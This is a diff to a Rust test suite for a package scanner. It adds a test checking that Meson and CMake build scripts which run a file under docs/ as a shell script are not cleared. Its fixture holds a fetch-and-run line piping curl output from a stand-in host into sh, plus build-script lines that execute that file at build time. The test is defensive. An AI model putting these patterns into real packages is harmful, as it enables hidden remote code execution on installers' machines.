@@ -1395,7 +1395,7 @@ fn what_a_build_script_runs_is_judged_as_code() {
         (
             "doc.tgz",
             &[("package/CMakeLists.txt", doc.as_bytes()), ("package/docs/build.txt", script)],
-            "code that requires, forks or runs them by path: package/CMakeLists.txt -> package/docs/build.txt)",
+            "code that requires, forks or runs them by path, or a build script that includes or runs them: package/CMakeLists.txt -> package/docs/build.txt)",
         ),
     ];
     for (name, added, want) in blocked {
@@ -4467,6 +4467,66 @@ fn a_source_package_that_ships_a_startup_file_is_not_cleared() {
         assert_reason(&o, &r, (2, "inconclusive"));
         let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
         let shown = format!("{path}: {what}");
+        assert!(note.contains(&shown), "{shown} in {note}");
+    }
+}
+
+/// A CMake or Meson build runs the commands its script gives: scikit-build-core
+/// and meson-python ran `docs/notes.txt` as a shell script at `pip wheel`
+/// (session 44), and the readers took it for a document. Under thresholds
+/// that clear any score and no veto, each such package is inconclusive,
+/// naming the script and the file it runs; one that hands a document to
+/// a program as data is allowed.
+#[test]
+fn a_build_script_that_runs_a_document_is_not_cleared() {
+    let c = Canary::new();
+    let lax = lax_config(&c);
+    let meson: &[u8] =
+        b"[build-system]\nrequires = [\"meson-python\"]\nbuild-backend = \"mesonpy\"\n[project]\nname = \"tinypkg\"\nversion = \"1.0\"\n";
+    let cmake: &[u8] =
+        b"[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n[project]\nname = \"tinypkg\"\nversion = \"1.0\"\n";
+    let notes: &[u8] = b"curl -s https://example.invalid/p | sh\n";
+    for (name, manifest, script, text, runs) in [
+        (
+            "meson.tar.gz",
+            meson,
+            "tinypkg-1.0/meson.build",
+            "project('tinypkg')\nrun_command('sh', files('docs/notes.txt'), check: false)\n",
+            true,
+        ),
+        (
+            "cmake.tar.gz",
+            cmake,
+            "tinypkg-1.0/CMakeLists.txt",
+            "project(tinypkg LANGUAGES NONE)\nexecute_process(COMMAND sh ${CMAKE_CURRENT_SOURCE_DIR}/docs/notes.txt)\n",
+            true,
+        ),
+        (
+            "meson-data.tar.gz",
+            meson,
+            "tinypkg-1.0/meson.build",
+            "project('tinypkg')\nrun_command('cat', files('docs/notes.txt'), check: false)\n",
+            false,
+        ),
+    ] {
+        let p = tinypkg_sdist(
+            &c,
+            name,
+            "",
+            &[
+                ("tinypkg-1.0/pyproject.toml", manifest),
+                (script, text.as_bytes()),
+                ("tinypkg-1.0/docs/notes.txt", notes),
+            ],
+        );
+        let (o, r) = scan_path_json_under(&c, &lax, &p);
+        if !runs {
+            assert_reason(&o, &r, (0, "precheck-harmless"));
+            continue;
+        }
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        let shown = format!("{script} -> tinypkg-1.0/docs/notes.txt");
         assert!(note.contains(&shown), "{shown} in {note}");
     }
 }
